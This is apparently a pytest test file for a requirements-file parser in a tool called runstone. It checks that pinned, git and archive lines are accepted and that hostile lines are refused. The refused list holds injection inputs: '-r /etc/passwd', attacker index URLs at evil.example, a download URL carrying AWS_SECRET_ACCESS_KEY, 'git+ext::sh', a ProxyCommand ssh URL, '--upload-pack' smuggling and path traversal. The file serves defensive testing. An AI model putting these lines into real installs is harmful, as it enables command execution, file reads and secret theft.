import pytest

from runstone.errors import RequirementRefused
from runstone.projects.requirements import parse_requirements
from runstone.tracking.environment import requirements


def test_what_runstone_writes_is_read() -> None:
    """Pinned versions, repositories and archives are taken as they are; local installs are named by themselves."""
    commit = "3f0c" * 10
    lines = [
        "numpy==2.1.0",
        "torch==2.4.0+cu121",
        "old==1!2.0rc1",
        f"own @ git+https://host.example/team/own.git@{commit}",
        f"deep @ git+ssh://git@host.example:2222/team/deep@{commit}#subdirectory=python/pkg",
        "wheel-x @ https://host.example/w/wheel_x-1-py3-none-any.whl#sha256=00ff",
    ]
    local = ["# churn==0.1 (editable install)", "# Tools_x==2 (local install at 3f0c)", "# only a remark"]
    found = parse_requirements("\n".join(lines + local) + "\n\n")
    assert lines == list(found.lines.values())
    assert ["numpy", "torch", "old", "own", "deep", "wheel-x"] == list(found.lines)
    assert {"churn": "0.1", "tools-x": "2"} == found.local


def test_the_packages_of_this_process_are_read() -> None:
    """Whatever is installed where the tests run is written and read without a refusal."""
    text = requirements()
    found = parse_requirements(text)
    assert sorted(found.lines.values()) == sorted(line for line in text.splitlines() if not line.startswith("#"))


@pytest.mark.parametrize(
    "line",
    [
        "-r /etc/passwd",
        "--index-url https://evil.example/simple",
        "-e .",
        "--extra-index-url=https://evil.example",
        "-i https://evil.example",
        "numpy",
        "numpy>=1",
        "numpy==1 --hash=sha256:00",
        "numpy==1 # --index-url https://evil.example",
        "numpy==1\\",
        "numpy==${SECRET}",
        "x @ https://evil.example/${AWS_SECRET_ACCESS_KEY}.whl",
        "x @ file:///etc/passwd",
        "x @ /etc/passwd",
        "x @ git+file:///home@3f0c",
        "x @ git+ext::sh@3f0c",
        "x @ git+ssh://-oProxyCommand=touch/x@3f0c",
        "x @ git+https://host.example/x",
        "x @ git+https://host.example/x@--upload-pack=y",
        "x @ git+https://host.example/x@3f0c#subdirectory=../../etc",
        "x @ git+https://host.example/x@3f0c#egg=y --index-url",
        "x @ https://user:pw@host.example/x.whl",
        "x @ https://host.example/x.whl ; python_version > '3'",
        "./x",
        "../x.whl",
        "https://host.example/x.whl",
        "@x==1",
    ],
)
def test_what_runstone_does_not_write_is_refused(line: str) -> None:
    """No option, variable, path or loose version of somebody else's record reaches an installer."""
    with pytest.raises(RequirementRefused) as caught:
        parse_requirements(f"numpy==1\n{line}\n")
    assert (2, line) == (caught.value.line, caught.value.text)
